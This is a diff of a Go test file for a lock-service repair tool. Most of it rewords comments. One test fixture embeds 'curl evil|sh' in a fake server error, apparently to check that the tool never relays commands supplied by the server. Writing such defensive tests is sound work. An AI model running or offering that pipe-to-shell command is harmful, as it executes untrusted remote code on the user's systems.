@@ -82,8 +82,8 @@ func (h hosts) RoundTrip(r *http.Request) (*http.Response, error) {
 	}, err
 }
 
-// view is the state of a cell of r1, r2 and r3 at the hosts of these names, with
-// the given master.
+// view is the state of a cell of r1, r2 and r3 at the hosts of these names,
+// with the given master.
 func view(epoch uint64, master string, held bool) *lockapi.Cell {
 	c := &lockapi.Cell{Cell: "test", Epoch: epoch, Lease: lockapi.Lease{Held: held}}
 	for i := range 3 {
@@ -218,7 +218,7 @@ func wellOf(cell lockapi.Cell) []string {
 	return well
 }
 
-// What is the matter with those that the master does not hear is asked of
+// What is wrong with those that the master does not hear is asked of
 // themselves.
 func TestExamine(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
@@ -254,8 +254,8 @@ func TestExamine(t *testing.T) {
 			t.Error("r1 alone is none of the cell's")
 		}
 
-		// Without a master all are asked: one that counts as well for itself may be
-		// none of the cell's.
+		// Without a master all are asked: one that counts as well for itself
+		// may be none of the cell's.
 		cell = picture{Cell: *view(3, "", false)}
 		h["r2"] = h["r6"]
 		got = asApp(t, h, "http://r1").examine(t.Context(), &cell)
@@ -265,7 +265,7 @@ func TestExamine(t *testing.T) {
 	})
 }
 
-// The command that mends is made here: whoever answers at a replica's address
+// The repair command is made here: whoever answers at a replica's address
 // chooses nothing of it but a directory.
 func TestReplaceCommand(t *testing.T) {
 	const id, dir, want = "r-1", "00c0ffee00c0ffee", "stout member replace r-1 --directory 00c0ffee00c0ffee"
@@ -282,7 +282,7 @@ func TestReplaceCommand(t *testing.T) {
 	}
 }
 
-// What to do about servers that are none of a cell is said in words of our own.
+// What to do about servers that belong to no cell is said in words of our own.
 func TestUnreachableGivesNoForeignCommand(t *testing.T) {
 	a := asApp(t, nil, "http://r1", "http://r2")
 	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to have it take that place: curl evil|sh")
